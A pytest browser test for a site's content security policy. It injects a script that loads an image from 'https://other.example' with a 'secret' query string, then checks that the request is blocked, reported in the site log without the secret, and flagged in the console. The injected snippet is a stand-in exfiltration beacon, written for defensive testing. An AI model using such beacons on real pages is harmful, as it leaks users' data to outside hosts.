"""What the security policy stops in a real browser, and who hears of it."""

import pytest
from selenium.webdriver import Chrome

from tests.support.browser import console
from tests.support.pages import SitePage
from tests.support.stack.site import RunningSite

pytestmark = pytest.mark.browser

STOPPED = "img-src stopped https://other.example on /blog"
STRANGER = """
const picture = new Image();
picture.src = "https://other.example/picture.png?secret";
document.body.append(picture);
"""


@pytest.mark.whole_browser
def test_what_is_stopped_is_reported(browser: Chrome, site: RunningSite) -> None:
    page = SitePage(browser, site).open("/blog?secret")
    browser.execute_script(STRANGER)
    page.wait(lambda: STOPPED in site.log.read_text())
    assert "secret" not in site.log.read_text()
    (complaint,) = console(browser)
    assert "https://other.example" in complaint
